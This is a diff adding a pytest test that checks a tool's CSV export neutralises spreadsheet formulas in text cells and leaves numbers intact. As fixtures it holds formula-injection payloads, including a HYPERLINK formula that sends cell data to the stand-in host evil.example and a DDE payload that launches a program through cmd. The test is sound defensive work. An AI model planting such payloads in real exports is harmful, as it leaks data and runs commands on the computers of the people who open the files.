@@ -412,3 +412,34 @@ def test_history_series_errors_show_escape_sequences_visibly(tmp_path):
     assert done.exit_code == 2 and "no such series" in done.stderr
     assert "\x1b" not in done.stderr and "\x07" not in done.stderr and BIDI not in done.stderr
     assert "nothing\\x1b[2J\\x1b]0;owned\\x07" in done.stderr
+
+
+# ---- CSV cells a spreadsheet would run as formulas (issue 33 item 21) ----------------------------
+
+
+def test_csv_export_neutralises_formulas_in_text_cells_and_keeps_numbers(tmp_path):
+    import csv
+    import io
+
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"x")',
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+    ]
+    document = make_document(
+        {
+            name: {"cuda": samples(1e-3, seed=k), "ptx": samples(1.2e-3, seed=9)}
+            for k, name in enumerate(formulas)
+        }
+    )
+    path = tmp_path / "run.json"
+    path.write_bytes(orjson.dumps(document))
+    done = invoke("export", "--format", "csv", path)
+    assert done.exit_code == 0, done.output
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert {r["case"] for r in rows} == {f"'{name}" for name in formulas}  # text, shown whole
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        assert float(row["median_s"]) > 0 and float(row["gap"] or 1) > 0  # numbers stay numbers
